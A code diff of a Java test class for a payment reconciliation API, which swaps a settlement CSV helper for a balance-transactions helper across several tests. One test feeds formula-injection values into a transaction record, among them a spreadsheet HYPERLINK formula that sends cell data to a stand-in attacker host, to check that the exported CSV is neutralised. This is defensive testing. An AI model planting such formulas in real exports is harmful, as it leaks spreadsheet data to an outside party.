@@ -4,7 +4,7 @@ import static dev.kassa.reconciliation.support.ReportClient.json;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.kassa.reconciliation.support.ReconciliationTestBase;
-import dev.kassa.reconciliation.support.SettlementCsv;
+import dev.kassa.reconciliation.support.BalanceTransactions;
 import dev.kassa.reconciliation.support.TestPayment;
 import java.io.StringReader;
 import java.time.LocalDate;
@@ -27,7 +27,7 @@ class ReconciliationApiTest extends ReconciliationTestBase {
         TestPayment payment = TestPayment.of(seller(), 2999, "USD", at(day, 8));
         TestPayment dropped = TestPayment.of(seller(), 1234, "USD", at(day, 9));
         settledInPlatform(payment, dropped);
-        PSP.serve(day, new SettlementCsv().charge(payment).render());
+        PSP.serve(day, new BalanceTransactions().charge(payment));
 
         ResponseEntity<String> posted = api.post("{\"date\":\"" + day + "\"}");
         assertThat(posted.getStatusCode().value()).isEqualTo(200);
@@ -110,7 +110,7 @@ class ReconciliationApiTest extends ReconciliationTestBase {
         LocalDate day = uniqueDay();
         TestPayment payment = TestPayment.of(seller(), 2999, "USD", at(day, 8));
         settledInPlatform(payment);
-        PSP.serve(day, new SettlementCsv().charge(payment).render());
+        PSP.serve(day, new BalanceTransactions().charge(payment));
         api.run(day);
 
         PSP.refuse(day, 503, "{\"error\":{\"type\":\"api_error\",\"code\":\"unavailable\"}}");
@@ -124,7 +124,7 @@ class ReconciliationApiTest extends ReconciliationTestBase {
         assertThat(report.get("error").asString()).contains("503");
         assertThat(report.get("matched_count").asLong()).as("the last completed run's figures stay").isEqualTo(1);
 
-        PSP.serve(day, new SettlementCsv().charge(payment).render());
+        PSP.serve(day, new BalanceTransactions().charge(payment));
         assertThat(api.run(day).get("status").asString()).isEqualTo("COMPLETED");
     }
 
@@ -146,7 +146,7 @@ class ReconciliationApiTest extends ReconciliationTestBase {
     @Test
     void aRunRecordsWhoStartedItFromWhereAndWithWhichRequest() {
         LocalDate day = uniqueDay();
-        PSP.serve(day, new SettlementCsv().render());
+        PSP.serve(day, new BalanceTransactions());
         String requestId = "req-audit-" + UUID.randomUUID();
 
         ResponseEntity<String> posted = api.post("{\"date\":\"" + day + "\"}", MediaType.APPLICATION_JSON, requestId);
@@ -173,8 +173,8 @@ class ReconciliationApiTest extends ReconciliationTestBase {
     void aFindingWhoseTextAFormulaWouldStartIsExportedNeutralised() throws Exception {
         LocalDate day = uniqueDay();
         String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"details\")";
-        PSP.serve(day, new SettlementCsv().charge("+txn_1", "@SUM(1+1)", formula, 500, 30, "USD", at(day, 10))
-                .render());
+        PSP.serve(day, new BalanceTransactions().charge("+txn_1", "@SUM(1+1)", formula, 500, 30, "USD", at(day, 10))
+                );
         api.run(day);
 
         ResponseEntity<String> csv = api.get("/api/v1/reconciliations/" + day + ".csv");
